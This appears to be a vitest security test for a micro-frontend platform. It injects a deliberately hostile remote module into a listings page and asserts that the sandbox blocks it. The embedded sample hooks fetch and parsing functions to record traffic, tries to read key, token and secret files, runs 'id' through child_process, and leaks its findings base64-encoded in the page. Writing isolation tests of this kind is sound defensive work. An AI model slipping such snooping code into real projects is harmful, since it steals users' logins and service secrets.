import { readdir } from 'node:fs/promises';
import { join } from 'node:path';
import { confinement } from '@rowhouse/federation/confined-process';
import { expect, test } from 'vitest';
import { checkOut } from '../run/checkout.ts';
import { until } from '../run/until.ts';
import { htmlOf, ownSite, pointAt } from './own-site.ts';

const own = ownSite();
const password = 'rowhouse-demo';
const typed = 'an.peeters@bezoeker.example';

// Code that a hostile team may add to the lists: it records what it sees in its process, and probes its surroundings
// on request.
const hostile = (dataDir: string, apiUrl: string) => `
const seen = [];
const node = globalThis['pro' + 'cess'];
const attempt = async (work) => {
  try {
    return String(await work());
  } catch (error) {
    return error.cause?.code ?? error.code ?? error.message;
  }
};
const { inspect } = node.getBuiltinModule('node:util');
const { from } = Buffer;
const text = (value) => {
  if (typeof value === 'string') return value;
  if (value instanceof ArrayBuffer) return from(value).toString('latin1');
  if (ArrayBuffer.isView(value)) return from(value.buffer, value.byteOffset, value.byteLength).toString('latin1');
  return inspect(value, { depth: 8, maxArrayLength: Infinity, maxStringLength: Infinity });
};
const record = (holder, name) => {
  const real = holder[name];
  holder[name] = function (...given) {
    seen.push(name, ...given.map(text));
    const answer = new.target ? Reflect.construct(real, given) : Reflect.apply(real, this, given);
    if (answer instanceof Promise) answer.then((value) => seen.push(name, text(value)), () => {});
    return answer;
  };
  if (real.prototype) Object.setPrototypeOf(holder[name], real).prototype = real.prototype;
};
if (typeof window === 'undefined') {
  for (const name of ['fetch', 'Request', 'Response', 'Headers', 'FormData']) record(globalThis, name);
  for (const { prototype } of [Request, Response]) for (const name of ['arrayBuffer', 'formData', 'json', 'text']) record(prototype, name);
  record(JSON, 'parse');
  record(Buffer, 'from');
  record(TextDecoder.prototype, 'decode');
}
const lookAround = async () => {
  const { readFileSync } = node.getBuiltinModule('node:fs');
  const found = await Promise.all([
    ...['release-key.pem', 'admin-token', 'session-secret', 'logs/shell.log'].map((file) => attempt(() => readFileSync(${JSON.stringify(dataDir)} + '/' + file, 'utf8'))),
    attempt(() => node.getBuiltinModule('node:child_process').execSync('id')),
    attempt(() => fetch('${apiUrl}/healthz').then(({ status }) => status)),
  ]);
  return '~~~' + from(['found: ' + found.join(' '), Object.keys(node.env).join(), ...seen].join('\\n')).toString('base64url') + '~~~';
};
`;

test('a hostile live remote finds no key and no way out, and records nothing of a login or another remote’s form', async () => {
  const { bucket, folder, site } = own;
  const team = await checkOut('listings', join(folder, 'team'));
  const known = new Set(await readdir(join(bucket, 'mf-listings')));
  await team.edit(
    'src/pages/listing.data.ts',
    '/** The list that',
    `${hostile(site.dataDir, site.apiUrl)}\n/** The list that`,
  );
  await team.edit(
    'src/pages/listing.data.ts',
    '  loadList(args.request, args.context, placeOf(args));',
    "  ({ ...(await loadList(args.request, args.context, placeOf(args))), ...(args.request.url.includes('tell') && { told: await lookAround() }) });",
  );
  await team.release(bucket, 'publish', 'mf-listings');
  const version = (await readdir(join(bucket, 'mf-listings'))).find((one) => !known.has(one)) ?? '';
  await pointAt(bucket, 'listings', version);
  await until(
    () => htmlOf(`${site.url}/_status`),
    (status) => status.includes(version),
  );

  const send = (path: string, fields: Record<string, string>) =>
    fetch(site.url + path, {
      method: 'POST',
      body: new URLSearchParams(fields),
      redirect: 'manual',
      headers: { origin: site.url },
    });
  const login = await send('/nl/login/', { name: 'demo', password });
  expect(login.headers.get('location')).toBe('/nl/eigenaar/');
  const cookies = login.headers.getSetCookie().map((line) => line.split(';')[0] ?? '');
  expect(cookies.length).toBeGreaterThan(0);
  const visit = (path: string) => fetch(site.url + path, { headers: { cookie: cookies.join('; ') } });
  const dashboard = await (await visit('/nl/eigenaar/')).text();
  const [, home = ''] = /href="\/nl\/eigenaar\/([^"/]+)\/"/.exec(dashboard) ?? [];
  expect(home).not.toBe('');
  expect(await (await send('/nl/contact/', { email: typed })).text()).toContain(typed);
  await visit('/nl/te-koop/');

  const told = await until(
    async () => {
      const [, all = ''] = (await (await visit('/nl/te-koop/?tell')).text()).split('~~~');
      return Buffer.from(all, 'base64url').toString();
    },
    // It does record what it may see: this visit of a logged-in owner, and its calls of the API.
    (lines) => lines.includes('/nl/te-koop/?tell') && lines.includes('/api/v1/'),
  );
  const denied = Array.from({ length: 5 }, () => 'ERR_ACCESS_DENIED').join(' ');
  expect(told).toContain(`found: ${denied} ${confinement() === 'namespaces' ? 'ENETUNREACH' : ''}`);
  for (const secret of [
    password,
    typed,
    ...cookies,
    // A short value may occur by chance.
    ...cookies.map((one) => one.split('=')[1] ?? '').filter((value) => value.length > 8),
    'x-service-token',
    'SERVICE_TOKEN',
  ])
    expect(told).not.toContain(secret);
});
